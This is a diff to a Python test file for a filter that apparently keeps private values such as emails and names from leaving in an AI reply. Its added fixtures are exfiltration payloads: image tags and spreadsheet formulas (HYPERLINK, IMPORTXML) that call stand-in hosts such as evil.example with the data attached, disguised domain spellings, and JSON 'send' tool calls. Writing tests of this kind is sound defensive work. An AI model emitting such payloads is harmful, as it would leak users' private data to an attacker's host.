@@ -180,11 +180,24 @@ LEAVING = [
     f"<img src=//evil.example/?q=\n{' ' * 201}x=\n[PERSON_7Q2M]>",
     "<img alt=x\n\u00a0\nsrc='//evil.example/?q= [PERSON_7Q2M]'>",
     "<\uff5ctool\u2581calls\u2581begin\uff5c>[EMAIL_2X9P]",
+    r'{"name": "send", "argu\u006dents": {"to": "[EMAIL_2X9P]"}}',
+    '{"action": "send", "action_input": {"to": "[EMAIL_2X9P]"}}',
+    '{"tool": "send", "toolArgs": {"to": "[EMAIL_2X9P]"}}',
+    '{"name": "send", "kwargs": {"to": "[EMAIL_2X9P]"}}',
+    '=HYPERLINK("//e.example/?q="&"[EMAIL_2X9P]")',
+    'a;=IF(1,IMPORTXML("x"&"[EMAIL_2X9P]"))',
+    "http:evil.example?q=[PERSON_7Q2M]",
+    "192.0.2.1:80/[PERSON_7Q2M]",
+    "evil\u3002example/[PERSON_7Q2M]",
+    "\u0437\u043b\u043e.\u0440\u0444/[PERSON_7Q2M]",
 ]
 
 
 # Of calls whose end no mark tells: nothing after them is put back.
-FOR_GOOD = ("TOOL_CALLS", "tool_calls", "tool_use", "functionCall", '"arguments"', '"args"', "<|", "\uff5c")
+FOR_GOOD = (
+    "TOOL_CALLS", "tool_calls", "tool_use", "functionCall", '"arguments"', '"args"', "<|", "\uff5c", "006d",
+    "action_input", "toolArgs", "kwargs",
+)  # fmt: skip
 
 
 @pytest.mark.parametrize("reply", LEAVING)
@@ -205,6 +218,21 @@ def test_a_tool_call_in_json_gets_no_value_and_its_neighbours_do() -> None:
         '{"a":"zoe@example.org","tool_calls":[{"x":["[EMAIL_2X9P]"]}], "b" : ["zoe@example.org"], '
         '"u": "http://e/[EMAIL_2X9P]"}'
     )
+    assert len(stream.tally.withheld) == 2
+
+
+@pytest.mark.parametrize("key", ["action_input", "tool_args", "kwargs", "FunctionArguments"])
+def test_arguments_in_json_have_many_names(key: str) -> None:
+    """Nothing private leaves: whatever a framework calls what its tools get."""
+    reply = json.dumps({"a": "[EMAIL_2X9P]", key: {"to": "[EMAIL_2X9P]"}, "b": "[EMAIL_2X9P]"})
+    text, stream = whole(reply, "json")
+    assert [text.count("zoe@example.org"), len(stream.tally.withheld)] == [2, 1]
+
+
+def test_a_call_that_is_no_json_goes_on_in_its_strings() -> None:
+    """Nothing private leaves: a document with other quotes is read by some programs too."""
+    text, stream = whole("{'name': 'send', 'args': {'to': \"[EMAIL_2X9P]\", 'cc': \"[EMAIL_2X9P]\"}}", "json")
+    assert "zoe" not in text
     assert len(stream.tally.withheld) == 2
 
 
